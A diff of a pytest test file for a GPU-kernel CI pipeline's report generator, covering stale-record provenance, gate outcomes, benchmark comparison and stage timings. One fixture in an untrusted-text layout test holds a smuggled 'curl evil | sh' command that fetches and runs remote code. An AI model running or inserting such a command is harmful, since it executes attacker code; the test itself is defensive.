@@ -37,6 +37,19 @@ SCENARIOS = {
     "build_failed": (exitcodes.OK, "## ❌ flashmoe-science: build failed"),
     "missing": (exitcodes.OK, "## ⚠️ flashmoe-science: nothing ran"),
     "unreadable": (exitcodes.USAGE, "## ❌ flashmoe-science: gates.json unreadable"),
+    # gates.json from the last step of a bisect (another commit), bench.json from a third, dirty
+    "stale": (
+        exitcodes.USAGE,
+        "## ⚠️ flashmoe-science: not a verdict on this commit: stale gates.json, stale bench.json",
+    ),
+    # `nox -s env build test report -- -k test_api`
+    "no_gate_selected": (exitcodes.OK, "## ⚠️ flashmoe-science: no gate selected"),
+    # the CPU backend: a CUDA-only selection (every gate skipped), and a bench without a base
+    "cpu": (
+        exitcodes.OK,
+        "## ⚠️ flashmoe-science: every selected gate skipped (needs a GPU); "
+        "bench not compared (no base given)",
+    ),
 }
 
 
@@ -134,7 +147,9 @@ def test_passing_report_has_bench_table_chart_and_comparison(tmp_path):
         in text
     )
     assert "+8 regs" in text  # register change against the base build
-    assert "| **total** | sum of this run's stages (FLASHMOE_JOB_START unset) | **15m 26s** |" in text
+    assert (
+        "| **total** | sum of this run's stages (FLASHMOE_JOB_START unset) | **15m 26s** |" in text
+    )
     assert "<details open" not in text  # nothing failed: every section is closed
 
 
@@ -205,7 +220,9 @@ def test_bench_json_must_match_its_schema(tmp_path):
     reports = tmp_path / "reports"
     shutil.copytree(FIXTURES / "passing", reports, ignore=shutil.ignore_patterns("expected.md"))
     bench = json.loads((reports / "bench.json").read_text())
-    bench["cases"][0]["baselines"]["sdpa_flash"] = {"unsupported": "no"}  # a shape bench never writes
+    bench["cases"][0]["baselines"]["sdpa_flash"] = {
+        "unsupported": "no"
+    }  # a shape bench never writes
     (reports / "bench.json").write_text(json.dumps(bench))
     assert report.main(["--dir", str(reports)]) == exitcodes.USAGE
     text = (reports / "report.md").read_text()
@@ -375,7 +392,7 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
                         "failures": [evil],
                         "rerun": "nox -s test -- -k x; curl evil | sh",
                     }
-                ]
+                ],
             }
         )
     )
@@ -477,3 +494,298 @@ def test_failed_test_stage_is_not_a_pass_even_when_every_gate_passed(tmp_path):
     assert report.main(["--dir", str(tmp_path), "--output", str(out), "--no-step-summary"]) == 0
     first = out.read_text().splitlines()[0]
     assert first.startswith("## ❌") and "test stage failed after its gates passed" in first, first
+
+
+# ---- provenance: a verdict only on this commit's and this run's records ----
+
+
+def copy_fixture(name: str, tmp_path: Path) -> Path:
+    reports = tmp_path / "reports"
+    shutil.copytree(
+        FIXTURES / name, reports, ignore=shutil.ignore_patterns("expected.md", "base_build.json")
+    )
+    return reports
+
+
+def rewrite(path: Path, **changes) -> None:
+    doc = json.loads(path.read_text())
+    doc.update(changes)
+    path.write_text(json.dumps(doc))
+
+
+def render_dir(reports: Path) -> tuple[int, str]:
+    rc = report.main(["--dir", str(reports), "--no-step-summary"])
+    return rc, (reports / "report.md").read_text()
+
+
+def test_gates_of_an_older_commit_are_stale_and_named_with_both_commits(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "gates.json", provenance=_provenance(OLDER_SHA))
+    rc, text = render_dir(reports)
+    first = text.splitlines()[0]
+    assert rc == exitcodes.USAGE
+    assert not first.startswith("## ✅") and "stale gates.json" in first
+    assert f"from commit {OLDER_SHA[:12]}, not {FIXTURE_SHA[:12]} (this checkout)" in text
+    assert "24 of 24 gates passed" not in text  # the stale figures are not shown
+
+
+def test_a_record_of_another_run_is_stale(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "bench.json", provenance=_provenance(run="nox-older-run"))
+    rc, text = render_dir(reports)
+    assert rc == exitcodes.USAGE and text.startswith("## ⚠️ flashmoe-science: not a verdict")
+    assert f"from run nox-older-run, not this run ({FIXTURE_RUN})" in text
+
+
+def test_without_a_run_id_only_the_commit_counts(tmp_path, monkeypatch):
+    monkeypatch.delenv(provenance.RUN_ID_VAR)
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "bench.json", provenance=_provenance(run="nox-older-run"))
+    rc, text = render_dir(reports)
+    assert rc == exitcodes.OK and text.startswith("## ✅ flashmoe-science: passed")
+
+
+def test_a_record_without_provenance_is_stale(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    gates = json.loads((reports / "gates.json").read_text())
+    del gates["provenance"]
+    (reports / "gates.json").write_text(json.dumps(gates))
+    rc, text = render_dir(reports)
+    assert rc == exitcodes.USAGE and "stale gates.json" in text.splitlines()[0]
+    assert "without provenance" in text
+
+
+def test_a_dirty_tree_differs_from_its_commit(tmp_path, monkeypatch):
+    dirty = {**FIXTURE_COMMIT, "dirty": True, "fingerprint": "0123456789abcdef"}
+    monkeypatch.setattr(provenance, "commit", lambda tree=None: dict(dirty))
+    rc, text = render_dir(copy_fixture("passing", tmp_path))
+    assert rc == exitcodes.USAGE
+    assert f"**commit** `{FIXTURE_SHA[:12]} (dirty 0123456789abcdef)`" in text
+    assert f"not {FIXTURE_SHA[:12]} (dirty 0123456789abcdef) (this checkout)" in text
+
+
+# ---- gates: what did not gate is never a pass ----
+
+
+@pytest.mark.parametrize(
+    ("outcome", "said"),
+    [
+        ("no-gates-selected", "no gate selected"),
+        ("gates-skipped-need-gpu", "every selected gate skipped (needs a GPU)"),
+        ("no-tests-collected", "no tests collected"),
+    ],
+)
+def test_no_pass_without_gates(tmp_path, outcome, said):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(
+        reports / "gates.json",
+        outcome=outcome,
+        gates={"ran": 0, "passed": 0, "failed": 0, "skipped": 0},
+        tests={"passed": 0, "failed": 0, "skipped": 0},
+        cases=[],
+        selection=["-k", "nothing-cuda"],
+    )
+    _, text = render_dir(reports)
+    first = text.splitlines()[0]
+    assert first.startswith("## ⚠️") and said in first, first
+    assert "tests outside the gates" not in text and "gates passed" not in text
+    assert "not run" not in text.split("| test |")[1].splitlines()[0]
+
+
+def test_tests_failed_outside_the_gates(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(
+        reports / "gates.json",
+        outcome="tests-failed-outside-gates",
+        tests={"passed": 186, "failed": 1, "skipped": 3},
+        pytest_exit_code=1,
+    )
+    _, text = render_dir(reports)
+    assert text.startswith("## ❌ flashmoe-science: tests outside the gates failed")
+    assert "186 tests passed, 1 failed, 3 skipped" in text
+
+
+def test_gates_and_tests_are_counted_apart(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(
+        reports / "gates.json",
+        gates={"ran": 692, "passed": 692, "failed": 0, "skipped": 0},
+        tests={"passed": 1008, "failed": 0, "skipped": 0},
+    )
+    _, text = render_dir(reports)
+    assert "| ✅ | test | 692 of 692 gates passed · 1,008 tests passed |" in text
+
+
+def test_a_failed_case_is_never_part_of_a_pass(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    gates = json.loads((reports / "gates.json").read_text())
+    gates["cases"][0]["outcome"] = "failed"  # outcome still says "passed"
+    (reports / "gates.json").write_text(json.dumps(gates))
+    _, text = render_dir(reports)
+    assert text.startswith("## ❌ flashmoe-science: 1 gate failed")
+
+
+def test_a_test_stage_that_wrote_no_gates_json_is_not_reported_as_not_run(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    (reports / "gates.json").unlink()
+    _, text = render_dir(reports)
+    assert "| ⚠️ | test | ran, but wrote no gates.json | 5m 13s |" in text
+
+
+def test_a_stage_that_never_finished_fails(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    (reports / "bench.json").unlink()
+    stages.record_stage("bench", None, "running", None, directory=reports)
+    _, text = render_dir(reports)
+    assert text.startswith("## ❌ flashmoe-science: bench did not finish")
+    assert (
+        "| ❌ | bench | did not finish (killed, timed out, or still running) | unfinished |" in text
+    )
+
+
+# ---- bench ----
+
+
+def test_a_bench_without_a_base_is_not_a_plain_pass(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "bench.json", comparison=None)
+    rc, text = render_dir(reports)
+    first = text.splitlines()[0]
+    assert rc == exitcodes.OK
+    assert first == "## ✅ flashmoe-science: passed; bench not compared (no base given)"
+    assert (
+        f"| {report.ICONS[report.NOTE]} | bench | 10 cases, 0.97{report.TIMES} SDPA default "
+        "(geo-mean), not compared (no base given) |" in text
+    )
+    assert (
+        text.splitlines()[5].startswith(f"SDPA ratio ({report.TIMES})")
+        and "not a gate" in text.splitlines()[5]
+    )
+
+
+def test_a_comparison_that_found_no_base_says_why(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    bench["comparison"].update(source="none", reason="origin/main does not build", cases=[])
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    assert text.splitlines()[0].endswith("bench not compared (origin/main does not build)")
+    assert "**Head vs base: not compared**: origin/main does not build." in text
+
+
+SDPA_EFFICIENT_REFUSAL = (
+    "Memory efficient kernel not used because: (Triggered internally at "
+    "/pytorch/aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:{line}.); Memory Efficient "
+    "attention does not support enable_gqa with a single query (Triggered internally at "
+    "/pytorch/aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:{line2}.); RuntimeError: No "
+    "available kernel. Aborting execution."
+)
+
+
+def test_each_refusal_once_with_its_reason(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    decode = [c for c in bench["cases"] if c["kind"] == "decode"]
+    for i, case in enumerate(decode + decode[:1]):  # three refusals, two line numbers
+        reason = SDPA_EFFICIENT_REFUSAL.format(line=850 + i % 2, line2=900 + i)
+        case["baselines"]["sdpa-efficient"] = {"status": "unsupported", "reason": reason}
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    line = (
+        "- SDPA efficient: unsupported: Memory Efficient attention does not support enable_gqa "
+        "with a single query; RuntimeError: No available kernel. Aborting execution."
+    )
+    assert text.count("- SDPA efficient:") == 1 and line in text
+    assert "Triggered internally" not in text
+
+
+def test_bandwidth_above_the_copy_ceiling_is_explained(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    decode = next(c for c in bench["cases"] if c["kind"] == "decode")
+    decode["ours"]["pct_copy_ceiling"] = 112.0
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    assert "(112%†)" in text
+    assert "† Above 100% of the copy ceiling: that ceiling streams through DRAM" in text
+    assert "L2" in text
+
+
+def test_the_cpu_report_does_not_speak_of_a_card(tmp_path):
+    _, text = run_report(FIXTURES / "cpu", tmp_path)
+    assert "measured on this card" not in text
+    assert "plumbing checks of the CPU path" in text
+
+
+# ---- build and env ----
+
+
+def test_dynamic_shared_memory_beside_the_static(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    build = json.loads((reports / "build.json").read_text())
+    build["kernels"][0].update(smem_bytes=0, dynamic_smem=98304)
+    del build["kernels"][1]["dynamic_smem"]  # a row of an older build.json
+    (reports / "build.json").write_text(json.dumps(build))
+    _, text = render_dir(reports)
+    assert "| static smem | dynamic smem |" in text
+    rows = [line for line in text.splitlines() if line.startswith("| `flash_fwd_kernel")]
+    assert "| 0 B | 96 KiB |" in rows[0]
+    assert "| 48 KiB | — |" in rows[1]  # no field: unknown, never 0 B
+
+
+def test_extension_not_built_is_no_news_when_the_build_ran(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    _, text = render_dir(reports)
+    assert "not built yet" not in text
+    (reports / "build.json").unlink()
+    _, text = render_dir(reports)
+    assert "not built yet" in text
+
+
+# ---- wall times: every stage, and the job's total ----
+
+
+def test_every_stage_timed_once_by_the_cli_and_the_total_is_the_jobs(tmp_path, monkeypatch):
+    import sys
+    import types
+
+    from flashmoe_science.pipeline import cli
+
+    reports = tmp_path / "reports"
+    monkeypatch.setenv("FLASHMOE_REPORT_DIR", str(reports))
+    codes = {"env": 0, "build": 0, "test": 1, "bench": 0, "sanitize": exitcodes.TOOL_MISSING}
+    for name, code in codes.items():
+        module = types.ModuleType(f"fake_{name}")
+        module.main = lambda argv, code=code: code
+        monkeypatch.setitem(sys.modules, module.__name__, module)
+        monkeypatch.setitem(cli.COMMANDS, name, (module.__name__, "stand-in"))
+        assert cli.main([name]) == code
+    monkeypatch.setenv(stages.JOB_START_VAR, str(int(__import__("time").time()) - 449))
+    assert report.main(["--dir", str(reports), "--no-step-summary"]) == exitcodes.OK
+    text = (reports / "report.md").read_text()
+    table = text[text.index("| stage |") : text.index("**total**")]
+    rows = [line for line in table.splitlines()[2:] if line.count("|") > 3]
+    assert len(rows) == 5 and all(not row.endswith("| — |") for row in rows), rows
+    assert "| ❌ | test | failed before writing gates.json |" in text
+    assert "| ⚠️ | build | ran, but wrote no build.json |" in text
+    assert "| ⏭️ | sanitize | skipped (a tool is missing) |" in text
+    total = re.search(
+        r"\| \*\*total\*\* \| the job, from its first step \| \*\*(7m \d\ds)\*\* \|", text
+    )
+    assert total and total.group(1) in ("7m 29s", "7m 30s"), text
+
+
+def test_help_is_not_a_stage(tmp_path, monkeypatch):
+    from flashmoe_science.pipeline import cli
+
+    monkeypatch.setenv("FLASHMOE_REPORT_DIR", str(tmp_path))
+    with pytest.raises(SystemExit):
+        cli.main(["env", "--help"])
+    assert not (tmp_path / "stages.json").exists()
+
+
+def test_a_job_start_that_is_not_this_job_is_ignored():
+    assert stages.job_seconds(stages.job_start({"FLASHMOE_JOB_START": "soon"})) is None
+    assert stages.job_seconds(1000.0, now=900.0) is None  # in the future
+    assert stages.job_seconds(1000.0, now=1000.0 + 30 * 24 * 3600) is None  # a month ago
+    assert stages.job_seconds(1000.0, now=1449.0) == 449.0
